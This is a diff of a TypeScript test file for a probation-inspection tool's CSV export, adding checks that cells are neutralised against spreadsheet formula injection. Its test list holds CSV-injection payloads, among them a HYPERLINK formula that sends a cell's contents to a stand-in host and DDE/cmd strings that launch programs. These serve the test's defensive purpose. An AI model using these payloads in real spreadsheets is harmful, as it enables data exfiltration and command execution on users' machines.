@@ -3,30 +3,69 @@ import Papa from 'papaparse';
 import { describe, expect, it } from 'vitest';
 import { createLondonDemo } from '../../../seeds';
 import { caseQuestions, PROBATION_PDU_2021 } from '../../../shared/framework';
-import { answersToCsv, CASE_COLUMNS, type ExportedInspection } from '../../../shared/interchange';
+import {
+  answersToCsv,
+  CASE_COLUMNS,
+  CSV_BOM,
+  neutraliseCell,
+  type ExportedInspection,
+} from '../../../shared/interchange';
 import { inspectionArbitrary } from '../../helpers/arbitraries';
 
+/** The cells as a spreadsheet reads them: the byte-order mark off, every quoted field unquoted. */
 function parse(text: string): string[][] {
-  const result = Papa.parse<string[]>(text, { skipEmptyLines: true });
+  expect(text.startsWith(CSV_BOM)).toBe(true);
+  const result = Papa.parse<string[]>(text.slice(1), { skipEmptyLines: true });
   expect(result.errors).toEqual([]);
   return result.data;
 }
+
+/** Rows keyed by the second header row's ids. */
+function records(text: string): Record<string, string>[] {
+  const [, ids, ...body] = parse(text) as [string[], string[], ...string[][]];
+  return body.map((row) => Object.fromEntries(ids.map((id, n) => [id, row[n]!])));
+}
+
+/**
+ * What a spreadsheet (Excel, LibreOffice, Google Sheets) treats as the start of a formula, or as a control
+ * character that can shift one in: the OWASP list, with the full-width forms some spreadsheets also accept.
+ */
+const FORMULA_STARTS = ['=', '+', '-', '@', '\t', '\r', '\n', '\uFF1D', '\uFF0B', '\uFF0D', '\uFF20'];
+
+/** Hostile text an inspector might paste, or a file might carry, as a reference or a note. */
+const HOSTILE = [
+  '=HYPERLINK("https://evil.example/?d="&B2,"Click")',
+  '=1+1',
+  '+1+1',
+  '-1+1',
+  "-2+3+cmd|' /C calc'!A0",
+  "@SUM(1+1)*cmd|' /C calc'!A0",
+  '\t=1+1',
+  '\r=1+1',
+  '\n=1+1',
+  '\uFF1D1+1',
+  "=cmd|' /C notepad'!'A1'",
+  '"=1+1"',
+  "'=1+1",
+  ' =1+1',
+  'DDE("cmd";"/C calc";"!A0")A0',
+];
 
 describe('CSV of case-level answers', () => {
   it('round-trips every answer and note through a CSV parser, commas, quotes and new lines included', () => {
     fc.assert(
       fc.property(inspectionArbitrary(6, [PROBATION_PDU_2021]), (inspection) => {
-        const rows = parse(answersToCsv([inspection]));
-        const [header, ...body] = rows as [string[], ...string[][]];
+        const body = records(answersToCsv([inspection]));
         const live = inspection.cases.filter((c) => !c.deleted);
         expect(body).toHaveLength(live.length);
-        live.forEach((c, i) => {
+        const byId = new Map(body.map((row) => [row['case id'], row]));
+        live.forEach((c) => {
           if (c.deleted) return;
-          const row = Object.fromEntries(header.map((h, n) => [h, body[i]![n]]));
-          expect(row.reference).toBe(c.reference);
+          const row = byId.get(c.id)!;
+          expect(row.reference).toBe(neutraliseCell(c.reference));
           for (const [questionId, answer] of Object.entries(c.answers)) {
             expect(row[questionId]).toBe(answer.value ?? '');
-            expect(row[`${questionId} note`]).toBe(answer.note ?? '');
+            expect(row[`${questionId} note`]).toBe(neutraliseCell(answer.note ?? ''));
           }
         });
       }),
@@ -36,15 +75,83 @@ describe('CSV of case-level answers', () => {
 
   it('has a stable column order: the case facts, then each question and its note in framework order', () => {
     const demo = createLondonDemo();
-    const header = parse(answersToCsv(demo.slice(0, 1)))[0]!;
+    const ids = parse(answersToCsv(demo.slice(0, 1)))[1]!;
     const questions = caseQuestions(PROBATION_PDU_2021).map((q) => q.id);
-    expect(header).toEqual([...CASE_COLUMNS, ...questions.flatMap((q) => [q, `${q} note`])]);
-    expect(parse(answersToCsv(demo))[0]).toEqual(header);
+    expect(ids).toEqual([...CASE_COLUMNS, ...questions.flatMap((q) => [q, `${q} note`])]);
+    expect(parse(answersToCsv(demo))[1]).toEqual(ids);
+  });
+
+  it("heads the columns in inspectors' words with the question number, the ids in the row below", () => {
+    const demo = createLondonDemo();
+    // The London inspections rate court work, so assessment is standard 2.2.
+    const [words, ids] = parse(answersToCsv(demo.slice(0, 1))) as [string[], string[]];
+    const column = (id: string) => words[ids.indexOf(id)];
+    expect(column('reference')).toBe('Case reference');
+    expect(column('rosh')).toBe('Risk of serious harm');
+    expect(column('assessment.engagement')).toBe(
+      '2.2.1 Does assessment focus sufficiently on engaging the person on probation?',
+    );
+    expect(column('assessment.engagement note')).toBe('2.2.1 note');
+    expect(column('assessment.safety')).toMatch(/^2\.2\.3 Does assessment focus sufficiently on keeping/);
+    expect(column(PROBATION_PDU_2021.domains[1]!.standards[1]!.keyQuestions[0]!.prompts[1]!.id)).toMatch(
+      /^2\.2\.1b /,
+    );
+    expect(column('management-oversight')).toBe(
+      '2.4.4 Where the case required it, was management oversight effective? (not rated)',
+    );
+    // Without court work the standards renumber: assessment becomes 2.1.
+    const withoutCourt = { ...demo[0]!, options: { courtWork: false } };
+    const [renumbered] = parse(answersToCsv([withoutCourt])) as [string[]];
+    expect(renumbered[ids.indexOf('assessment.engagement')]).toMatch(/^2\.1\.1 /);
+    expect(renumbered[ids.indexOf('court-work.advice')]).toMatch(/\(standard not rated\)$/);
+    // Inspections that disagree on court work share one set of numbers: every standard rated.
+    const [mixed] = parse(answersToCsv([withoutCourt, demo[0]!])) as [string[]];
+    expect(mixed[ids.indexOf('assessment.engagement')]).toMatch(/^2\.2\.1 /);
   });
 
   it('writes one row per live case of every inspection', () => {
     const demo = createLondonDemo();
-    expect(parse(answersToCsv(demo))).toHaveLength(1 + 248);
+    expect(parse(answersToCsv(demo))).toHaveLength(2 + 248);
+  });
+
+  it('opens every cell of a sheet built from hostile references and notes, and none can start a formula', () => {
+    const base = createLondonDemo()[4]!;
+    const live = base.cases.filter((c) => !c.deleted);
+    const hostileCases = HOSTILE.map((text, i) => {
+      const c = live[i % live.length]!;
+      const answers = Object.fromEntries(
+        Object.entries(c.answers).map(([id, answer]) => [id, { ...answer, note: text }]),
+      );
+      return { ...c, id: `hostile-${i}`, reference: text, inspector: text.slice(0, 20), note: text, answers };
+    });
+    const hostile = { ...base, name: '=HYPERLINK("https://evil.example")', cases: hostileCases };
+    const text = answersToCsv([hostile]);
+    const cells = parse(text).flat();
+    expect(cells.length).toBeGreaterThan(HOSTILE.length * 100);
+    for (const cell of cells) {
+      for (const start of FORMULA_STARTS) expect(cell.startsWith(start), JSON.stringify(cell)).toBe(false);
+    }
+    // The text is all still there, behind the apostrophe a spreadsheet shows as text and does not display.
+    const rows = records(text);
+    const byId = new Map(rows.map((r) => [r['case id'], r]));
+    HOSTILE.forEach((text, i) => expect(byId.get(`hostile-${i}`)!.reference).toBe(neutraliseCell(text)));
+    expect(byId.get('hostile-0')!.reference).toBe('\'=HYPERLINK("https://evil.example/?d="&B2,"Click")');
+    expect(byId.get('hostile-0')!['assessment.safety note']).toBe(
+      '\'=HYPERLINK("https://evil.example/?d="&B2,"Click")',
+    );
+    expect(byId.get('hostile-11')!.reference).toBe('"=1+1"');
+    expect(rows[0]!.inspection).toBe('\'=HYPERLINK("https://evil.example")');
+  });
+
+  it('neutralises any text fast-check finds that starts like a formula', () => {
+    fc.assert(
+      fc.property(fc.constantFrom(...FORMULA_STARTS), fc.string(), (start, rest) => {
+        const cell = neutraliseCell(start + rest);
+        expect(cell).toBe(`'${start}${rest}`);
+        expect(FORMULA_STARTS.some((s) => cell.startsWith(s))).toBe(false);
+      }),
+    );
+    expect(neutraliseCell('CRN X123456')).toBe('CRN X123456');
   });
 
   it('refuses to mix framework versions in one sheet', () => {
@@ -75,7 +182,7 @@ describe('CSV of case-level answers', () => {
         },
       ],
     };
-    const [header, row] = parse(answersToCsv([youth]));
+    const [, header, row] = parse(answersToCsv([youth]));
     expect(header!.slice(0, 8)).toEqual([
       'inspection',
       'case id',
@@ -90,9 +197,10 @@ describe('CSV of case-level answers', () => {
     expect(row!.slice(4, 6)).toEqual(['low', 'high']);
   });
 
-  it('quotes every field and ends lines with CRLF', () => {
+  it('starts with the byte-order mark, quotes every field and ends lines with CRLF', () => {
     const text = answersToCsv(createLondonDemo().slice(4, 5));
-    expect(text.startsWith('"inspection","case id","reference"')).toBe(true);
-    expect(text.split('\r\n').length).toBe(41 + 2);
+    expect(text.startsWith(`${CSV_BOM}"Inspection","Case id (Casescore)","Case reference"`)).toBe(true);
+    expect(text.split('\r\n')[1]!.startsWith('"inspection","case id","reference"')).toBe(true);
+    expect(text.split('\r\n').length).toBe(2 + 41 + 1);
   });
 });
